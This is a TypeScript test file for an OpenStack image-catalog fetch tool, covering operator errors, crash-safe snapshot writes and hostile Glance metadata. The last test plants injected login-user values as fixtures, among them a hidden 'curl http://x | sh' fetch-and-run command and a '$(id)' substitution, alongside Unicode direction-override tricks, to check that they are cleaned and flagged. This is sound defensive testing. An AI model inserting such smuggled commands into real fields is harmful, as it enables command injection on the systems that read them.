/**
 * Operator mistakes and hostile metadata at fetch time (issue 12): each gives a
 * clear one-line error with nothing lost, or a safe snapshot with a warning.
 */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { historySchema, snapshotSchema } from '../../../src/schemas/snapshot.ts';
import { UNSAFE_CHARACTER } from '../../../src/lib/catalog/safe-text.ts';
import { journalPathFor } from '../../../scripts/lib/snapshot-file.ts';
import { glanceImage } from './support/fake-cloud.ts';
import { expectFault, OLD_SNAPSHOT, scenarioPerTest } from './support/scenario.ts';

vi.setConfig({ testTimeout: 90_000, hookTimeout: 60_000 });

const setup = scenarioPerTest();

describe('operator mistakes', () => {
  it('--out under a regular file: one clear line, exit 2, before any request', async () => {
    const s = await setup();
    const run = await s.run(['--out', join(s.out, 'nested', 'snapshot.json')]);
    expectFault(s, run, 2, /--out .*snapshot\.json\/nested\/snapshot\.json is under .*snapshot\.json, which is a file, not a directory; give --out a path in a directory/);
    expect(s.cloud.requests).toHaveLength(0);
  });

  it('--out naming a directory: one clear line, exit 2', async () => {
    const s = await setup();
    const run = await s.run(['--out', s.dir]);
    expectFault(s, run, 2, /--out .* is a directory; give --out a file path/);
  });

  it('a deleted application credential: Keystone says it does not exist (exit 3), not "not a Keystone v3 URL"', async () => {
    const s = await setup();
    s.cloud.intercept = (request) =>
      request.method === 'POST'
        ? { status: 404, body: { error: { code: 404, title: 'Not Found', message: 'Could not find Application Credential: ac1.' } } }
        : undefined;
    const run = await s.run([], { OS_USERNAME: undefined, OS_PASSWORD: undefined, OS_APPLICATION_CREDENTIAL_ID: 'ac1', OS_APPLICATION_CREDENTIAL_SECRET: s.cloud.appCredentialSecret });
    expectFault(s, run, 3, /says the application credential does not exist \(HTTP 404 \("Could not find Application Credential: ac1\."\)\); check OS_APPLICATION_CREDENTIAL_ID/);
    expect(run.stderr).not.toMatch(/not a Keystone v3 URL/);
  });

  it('a 404 that is not Keystone still says the URL is wrong', async () => {
    const s = await setup();
    s.cloud.intercept = (request) => (request.method === 'POST' ? { status: 404, body: '<html><title>Not Found</title></html>' } : undefined);
    const run = await s.run([]);
    expectFault(s, run, 2, /not a Keystone v3 URL/);
  });

  it('the owner guard lets a sample snapshot be replaced without --owner-change', async () => {
    const s = await setup();
    const sample = JSON.parse(OLD_SNAPSHOT);
    sample.source.note = 'A sample listing, not a live fetch';
    writeFileSync(s.out, JSON.stringify(sample));
    s.cloud.images.push(glanceImage({ id: 'b1', name: 'Other official', owner: 'abc123' }));
    const run = await s.run(['--owner', 'abc123']);
    expect(run.code, run.stderr).toBe(0);
    expect(JSON.parse(readFileSync(s.out, 'utf8')).source.owner).toBe('abc123');
  });

  it('a previous snapshot with a UTF-8 byte order mark is read, not replaced as broken', async () => {
    const s = await setup();
    writeFileSync(s.out, `\ufeff${OLD_SNAPSHOT}`);
    const run = await s.run(['--json']);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).not.toMatch(/warning/);
    // old-1 was in the BOM'd snapshot, so it counts as removed (not "every image added").
    expect(JSON.parse(run.stdout)).toMatchObject({ removed: 1 });
  });
});

describe('snapshot and history are written as one unit', () => {
  for (const point of ['after-journal', 'after-snapshot', 'after-history']) {
    it(`a kill ${point.replace('-', ' ')} loses nothing: the next fetch finishes the write and records the change`, async () => {
      const s = await setup();
      const killed = await s.run([], { CATALOG_TEST_CRASH_AT: point });
      expect(killed.code).toBeNull(); // killed by a signal, no clean-up
      expect(existsSync(journalPathFor(s.out))).toBe(true);
      const again = await s.run(['--json']);
      expect(again.code, again.stderr).toBe(0);
      expect(again.stderr).toMatch(/finished an interrupted write/);
      expect(existsSync(journalPathFor(s.out))).toBe(false);
      // Nothing changed since the killed fetch, so the second one records nothing new...
      expect(JSON.parse(again.stdout)).toMatchObject({ changed: false });
      // ...and the killed fetch's change is in the history, beside its snapshot.
      const snapshot = snapshotSchema.parse(JSON.parse(readFileSync(s.out, 'utf8')));
      const history = historySchema.parse(JSON.parse(readFileSync(s.history, 'utf8')));
      expect(history.entries).toHaveLength(1);
      expect(history.entries[0]!.added.map((item) => item.id).sort()).toEqual(snapshot.images.map((image) => image.id).sort());
      expect(history.entries[0]!.removed.map((item) => item.id)).toEqual(['old-1']);
    });
  }

  it('a fetch that fails before writing leaves no journal and both files as they were', async () => {
    const s = await setup();
    s.cloud.intercept = (request) => (request.method === 'GET' ? { status: 500, body: {} } : undefined);
    const run = await s.run([], { CATALOG_RETRIES: '0' });
    expect(run.code).toBe(4);
    expect(readFileSync(s.out, 'utf8')).toBe(OLD_SNAPSHOT);
    expect(existsSync(journalPathFor(s.out))).toBe(false);
  });
});

describe('hostile metadata at fetch time', () => {
  it('cleans every string, keeps the raw values apart, warns about a login user that is not an account name', async () => {
    const s = await setup();
    s.cloud.images = [
      glanceImage({ id: 'h1', name: 'Ubuntu\u202e 42.oi\u0007', default_user: 'ubuntu\u007fcurl http://x | sh #', os_version: '24.04\u2028' }),
      glanceImage({ id: 'h2', name: '   ', default_user: 'ubuntu$(id)', long_property: 'x'.repeat(250_000) }),
      glanceImage({ id: 'h3', os_hidden: ' true' }),
      glanceImage({ id: 'h4', os_hidden: 'yes' }),
      glanceImage({ id: 'h5', os_hidden: 'False' }),
    ];
    const run = await s.run(['--json']);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).toMatch(/warning: image h1: default_user "ubuntucurl http:\/\/x \| sh #" is not an account name/);
    expect(run.stderr).toMatch(/warning: image h2: default_user "ubuntu\$\(id\)" is not an account name/);
    expect(JSON.parse(run.stdout).badLoginUsers).toEqual(['h1', 'h2']);
    const snapshot = snapshotSchema.parse(JSON.parse(readFileSync(s.out, 'utf8')));
    // os_hidden other than a clear false fails closed.
    expect(snapshot.images.map((image) => image.id).sort()).toEqual(['h1', 'h2', 'h5']);
    const h1 = snapshot.images.find((image) => image.id === 'h1')!;
    const h2 = snapshot.images.find((image) => image.id === 'h2')!;
    expect(h1.name).toBe('Ubuntu 42.oi');
    expect(h1.version).toBe('24.04');
    expect(h1.raw).toMatchObject({ name: 'Ubuntu\u202e 42.oi\u0007' });
    expect(h2.properties.long_property!.length).toBeLessThanOrEqual(1000);
    expect(h2.raw!['properties.long_property']).toHaveLength(250_000);
    for (const image of snapshot.images) {
      const { raw: _raw, ...shown } = image;
      expect(JSON.stringify(shown)).not.toMatch(/\\u00(?:0[0-8bcef]|1[0-9a-f]|7f)|[\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
      for (const value of Object.values(image.properties)) expect(value).not.toMatch(UNSAFE_CHARACTER);
    }
  });
});
